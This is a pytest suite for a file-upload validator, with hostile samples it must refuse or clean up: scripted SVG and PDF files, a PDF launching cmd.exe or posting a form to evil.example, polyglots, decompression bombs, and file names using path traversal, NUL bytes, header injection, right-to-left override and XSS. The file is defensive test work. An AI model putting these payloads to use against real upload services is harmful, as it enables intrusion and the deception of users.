"""Which files are taken: honest ones, and every hostile one with the answer that it gets."""

import hashlib
import struct
import zlib

import pytest

from panel.files import documents
from panel.files.rules import LIMIT, check
from panel.words import Refused
from tests.panel.files.samples import (
    ADOBE,
    JFIF,
    PLACE,
    SCAN,
    SCRIPT,
    chunk,
    exif,
    frame,
    jpeg,
    object_stream,
    pdf,
    png,
    segment,
    stream,
    zip_of,
)

FOREIGN = (
    "Only PDF, JPEG and PNG can be attached. The content of this file is something else, "
    "whatever its name says."
)
OFFICE = "This is a Word, Excel or zip file. Save it as PDF and attach the PDF."
HEIC = "This is a HEIC picture or a video. Save it as JPEG and attach the JPEG."
EMPTY = "The file is empty."
LARGE = "The file is too large. At most 10 MB."
SECOND = "A second file is hidden in this file. It was not taken."
PAGE = "A web page is hidden in this file. It was not taken."
PICTURE = "The picture is broken or cut off. Save it again and attach that."
BROKEN, SCRIPTED, CARRIES, ACTS, LOCKED, OPAQUE = map(
    str,
    (
        documents.BROKEN,
        documents.SCRIPT,
        documents.CARRIES,
        documents.ACTS,
        documents.LOCKED,
        documents.OPAQUE,
    ),
)


def pixels(width, height):
    return f"The picture is too large: {width} × {height} pixels. At most 40 million."


def answer(data, name="bukti.pdf"):
    """The sentence of the refusal."""
    with pytest.raises(Refused) as refused:
        check(data, name)
    assert refused.value.code == "field"
    return str(refused.value.sentence)


HOSTILE = {
    # what it is not
    "nothing at all": (b"", EMPTY),
    "40 MB": (bytes(40 * 2**20), LARGE),
    "one byte too many": (pdf(tail=b"\n" * (LIMIT + 1 - len(pdf()))), LARGE),
    "SVG with a script": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT, FOREIGN),
    "SVG behind an XML head": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', FOREIGN),
    "HTML called .pdf": (b"<!DOCTYPE html><html>" + SCRIPT, FOREIGN),
    "GIF that is JavaScript too": (b"GIF89a/*\x01\0\x01\0*/=1;alert(1)//;", FOREIGN),
    "Windows program": (b"MZ\x90\0" + bytes(60), FOREIGN),
    "text": (b"Laporan kegiatan", FOREIGN),
    "docx": (zip_of(), OFFICE),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), OFFICE),
    "HEIC of a telephone": (b"\0\0\0\x18ftypheic" + bytes(16), HEIC),
    "signature of a PDF alone": (b"%PDF-", FOREIGN),
    "signature of a PNG alone": (b"\x89PNG\r\n\x1a\n", PICTURE),
    "signature of a JPEG alone": (b"\xff\xd8\xff", PICTURE),
    # two files in one
    "web page before a PDF": (pdf(head=b"<html>" + SCRIPT), FOREIGN),
    "script before a PDF": (pdf(head=b"alert(1)//"), FOREIGN),
    "web page in the first comment of a PDF": (
        pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + SCRIPT + b"\n"),
        PAGE,
    ),
    "web page behind a PDF": (pdf(tail=b"<html>" + SCRIPT), BROKEN),
    "jar behind a PDF": (pdf(tail=zip_of()), SECOND),
    "jar inside a PDF": (pdf(stream(zip_of())), SECOND),
    "jar behind a JPEG": (jpeg(JFIF, tail=zip_of()), SECOND),
    "jar behind a PNG": (png(tail=zip_of()), SECOND),
    "web page in the palette of a PNG": (png(chunk(b"PLTE", SCRIPT + b"xx")), PAGE),
    # pictures
    "pixel bomb, PNG": (png(width=100_000, height=100_000), pixels(100_000, 100_000)),
    "pixel bomb, JPEG": (jpeg(shape=frame(65_535, 65_535)), pixels(65_535, 65_535)),
    "one row too many": (png(width=8_000, height=5_001), pixels(8_000, 5_001)),
    "pixel bomb behind a small frame": (jpeg(shape=frame() + frame(65_535, 65_535)), PICTURE),
    "pixel bomb behind a small header": (
        png(chunk(b"IHDR", struct.pack(">IIBBBBB", 99_999, 99_999, 8, 0, 0, 0, 0))),
        PICTURE,
    ),
    "PNG without pixels": (png(width=0), PICTURE),
    "JPEG whose height comes later": (jpeg(shape=frame(height=0)), PICTURE),
    "JPEG without a scan": (jpeg().replace(SCAN, b""), PICTURE),
    "JPEG cut off in its pixels": (jpeg(JFIF)[:-2], PICTURE),
    "JPEG cut off in a table": (jpeg(JFIF)[:60], PICTURE),
    "JPEG whose segment is longer than the file": (b"\xff\xd8\xff\xe0\xff\xff" + SCRIPT, PICTURE),
    "JPEG whose segment has no length": (b"\xff\xd8\xff\xe0\0\0" + jpeg()[2:], PICTURE),
    "JPEG without loss, which browsers do not draw": (
        jpeg(shape=frame().replace(b"\xff\xc0", b"\xff\xc3")),
        PICTURE,
    ),
    "JPEG of a million empty comments": (jpeg(*[segment(0xFE, b"")] * 2**20), PICTURE),
    "PNG cut off": (png()[:-12], PICTURE),
    "PNG with a wrong checksum": (png().replace(b"\xaeB`\x82", b"\xaeB`\x83"), PICTURE),
    "PNG with a chunk that nobody knows": (png(chunk(b"EVIL")), PICTURE),
    "PNG with a note in its gamma": (png(chunk(b"gAMA", PLACE)), PICTURE),
    "PNG with two palettes": (png(chunk(b"PLTE", b"abc"), chunk(b"PLTE", b"abc")), PICTURE),
    "PNG without a header": (b"\x89PNG\r\n\x1a\n" + chunk(b"IEND"), PICTURE),
    "PNG of half a million empty chunks": (png(*[chunk(b"tEXt")] * 2**19), PICTURE),
    # PDF
    "PDF cut off": (pdf()[:-7], BROKEN),
    "PDF with JavaScript": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), SCRIPTED),
    "PDF with JS alone": (pdf(b"<</JS(app.alert(1))>>"), SCRIPTED),
    "PDF with JavaScript spelled in numbers": (pdf(b"<< /S /J#61va#53cript >>"), SCRIPTED),
    "PDF with JavaScript in an object stream": (
        pdf(object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
        SCRIPTED,
    ),
    "PDF whose object stream does not say that it is one": (
        pdf(object_stream(b"<< /S /JavaScript >>", kind=b"/Type /XObject")),
        SCRIPTED,
    ),
    "PDF whose object stream begins with blanks": (
        pdf(stream(zlib.compress(b"\0\n " * 5000 + b"20 0 << /S /Launch >>"))),
        ACTS,
    ),
    "PDF with JavaScript inside a stream that is none": (
        pdf(stream(b"9 0 obj << /S /JavaScript >> endobj")),
        SCRIPTED,
    ),
    "PDF with JavaScript behind a stream that does not end": (
        pdf(b"<< >> stream\nx << /S /JavaScript >>"),
        SCRIPTED,
    ),
    "PDF whose object stream is packed in another way": (
        pdf(stream(b"<~87cURD]~>", b"/Type /Obj#53tm /Filter /ASCII85Decode")),
        OPAQUE,
    ),
    "PDF whose object stream unpacks to 17 MB": (
        pdf(stream(zlib.compress(b"1 0 " + bytes(17 * 2**20)))),
        OPAQUE,
    ),
    "PDF whose streams unpack to 160 MB together": (
        pdf(*[stream(zlib.compress(b"1 0 " + bytes(15 * 2**20)))] * 11),
        OPAQUE,
    ),
    "PDF of 20,001 streams": (pdf(stream(b"") * 20_001), OPAQUE),
    "PDF that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTS),
    "PDF that sends a form": (pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), ACTS),
    "PDF that acts when opened": (pdf(b"<< /OpenAction << /S /URI /URI (x) >> >>"), ACTS),
    "PDF that acts elsewhere when opened": (pdf(b"<</OpenAction 5 0 R>>"), ACTS),
    "PDF that carries a file": (pdf(stream(b"MZ", b"/Type /EmbeddedFile")), CARRIES),
    "PDF with a list of files": (pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), CARRIES),
    "PDF with a form that is a program": (pdf(b"<< /AcroForm << /XFA 5 0 R >> >>"), SCRIPTED),
    "PDF with a password": (pdf().replace(b"/Root", b"/Encrypt 9 0 R /Root"), LOCKED),
}


@pytest.mark.parametrize(("data", "sentence"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_file_is_refused_with_the_sentence_that_says_why(data, sentence):
    assert answer(data) == sentence


HONEST = {
    "JPEG": ("image/jpeg", jpeg(JFIF)),
    "JPEG of a printer's colours": ("image/jpeg", jpeg(ADOBE)),
    "PNG": ("image/png", png()),
    "PNG with palette, transparency and gamma": (
        "image/png",
        png(chunk(b"gAMA", bytes(4)), chunk(b"PLTE", b"abc"), chunk(b"tRNS", b"\0\0")),
    ),
    "PDF": ("application/pdf", pdf()),
    "PDF behind a byte order mark": ("application/pdf", pdf(head=b"\xef\xbb\xbf\n")),
    "PDF filled up with zeros": ("application/pdf", pdf(tail=bytes(100))),
    "PDF of exactly 10 MB": (
        "application/pdf",
        pdf(stream(b"\xaa" * (LIMIT - len(pdf(stream(b""))) - 12))),
    ),
    "PDF with its objects packed": ("application/pdf", pdf(object_stream(b"<< /Type /Font >>"))),
    "PDF with its objects bundled": (
        "application/pdf",
        pdf(object_stream(b"<< /Type /Font >>", packed=False)),
    ),
    "PDF that begins on its first page": (
        "application/pdf",
        pdf(b"<< /OpenAction [3 0 R /XYZ null null 0] >>"),
    ),
    "PDF with a link": ("application/pdf", pdf(b"<< /S /URI /URI (https://bpk.example) >>")),
    "PDF with a signature": ("application/pdf", pdf(b"<< /Type /Sig /ByteRange [0 1 2 3] >>")),
    "PDF with /JS by chance in its pixels": ("application/pdf", pdf(stream(b"\x01/JS(\x02"))),
}


@pytest.mark.parametrize(("media_type", "data"), HONEST.values(), ids=HONEST)
def test_honest_file_is_kept_byte_for_byte(media_type, data):
    kept = check(data, "bukti")

    assert (kept.media_type, kept.data == data) == (media_type, True)
    assert (kept.size, kept.sha256) == (len(data), hashlib.sha256(data).hexdigest())


def test_hash_and_size_are_of_what_is_kept_not_of_what_was_sent():
    sent = jpeg(JFIF, exif(1))

    kept = check(sent)

    assert kept.size == len(jpeg(JFIF)) < len(sent)
    assert kept.sha256 == hashlib.sha256(jpeg(JFIF)).hexdigest()


THUMBNAIL = segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\x01\x01" + PLACE)
LEFT_OUT = {
    "place, and the telephone held upright": jpeg(JFIF, exif(1)),
    "notes that lead nowhere": jpeg(JFIF, segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff")),
    "XMP": jpeg(JFIF, segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + PLACE)),
    "captions": jpeg(JFIF, segment(0xED, b"Photoshop 3.0\0" + PLACE)),
    "colour profile": jpeg(JFIF, segment(0xE2, b"ICC_PROFILE\0" + PLACE)),
    "comment": jpeg(JFIF, segment(0xFE, PLACE)),
    "script in a comment": jpeg(JFIF, segment(0xFE, b"*/=1;" + SCRIPT)),
    "thumbnail": jpeg(THUMBNAIL),
    "second header": jpeg(JFIF, segment(0xE0, b"JFXX\0" + PLACE)),
    "film behind the end": jpeg(JFIF, tail=b"\0\0\0\x18ftypmp42" + PLACE),
    "web page behind the end": jpeg(JFIF, tail=b"<html>" + SCRIPT),
}


@pytest.mark.parametrize("data", LEFT_OUT.values(), ids=LEFT_OUT)
def test_nothing_but_the_picture_is_kept_of_a_jpeg(data):
    assert check(data).data == jpeg(JFIF)


@pytest.mark.parametrize("order", ["<", ">"])
def test_only_which_side_is_up_is_kept_of_a_telephones_notes(order):
    kept = check(jpeg(JFIF, exif(6, order))).data

    only = b"Exif\0\0MM\0*" + struct.pack(">IHHHIHHI", 8, 1, 0x0112, 3, 1, 6, 0, 0)
    assert kept == jpeg(JFIF, segment(0xE1, only))


@pytest.mark.parametrize("name", [b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"tIME", b"iCCP", b"acTL"])
def test_nothing_but_the_picture_is_kept_of_a_png(name):
    assert check(png(chunk(name, PLACE), tail=PLACE)).data == png()


NAMES = {
    "plain": ("Berita acara 18 Nov.pdf", "Berita acara 18 Nov.pdf"),
    "none": ("", "file.pdf"),
    "dots alone": ("...", "file.pdf"),
    "the ending alone": (".pdf", "file.pdf"),
    "folders up": ("../../etc/passwd", "passwd.pdf"),
    "folders of Windows": ("C:\\Users\\Fulan\\..\\bukti.pdf", "bukti.pdf"),
    "hidden file": (".htaccess", "htaccess.pdf"),
    "NUL": ("bukti.php\0.pdf", "bukti.php.pdf"),
    "line breaks": ("bukti\r\nSet-Cookie: a=b.pdf", "bukti Set-Cookie: a=b.pdf"),
    "turned writing direction": ("bukti\u202efdp.exe", "buktifdp.exe.pdf"),
    "isolates and zero widths": ("b\u2066u\u200bk\ufeffti.pdf", "bukti.pdf"),
    "half of a pair": ("bukti\ud800.pdf", "bukti.pdf"),
    "two endings": ("bukti.pdf.exe", "bukti.pdf.exe.pdf"),
    "ending of another kind": ("foto.jpg", "foto.jpg.pdf"),
    "capitals": ("BUKTI.PDF", "BUKTI.pdf"),
    "a number behind a dot": ("Laporan v1.2", "Laporan v1.2.pdf"),
    "letters of other scripts": ("e\u0301 ꦧꦸꦏ꧀ꦠꦶ.pdf", "é ꦧꦸꦏ꧀ꦠꦶ.pdf"),
    "markup": ('<img src=x onerror="alert(1)">.pdf', '<img src=x onerror="alert(1)">.pdf'),
    "far too long": ("a" * 5000 + ".pdf", "a" * 116 + ".pdf"),
}


@pytest.mark.parametrize(("given", "shown"), NAMES.values(), ids=NAMES)
def test_name_is_shown_without_folders_and_hidden_signs_and_ends_truly(given, shown):
    assert check(pdf(), given).name == shown
    assert check(pdf(), shown).name == shown
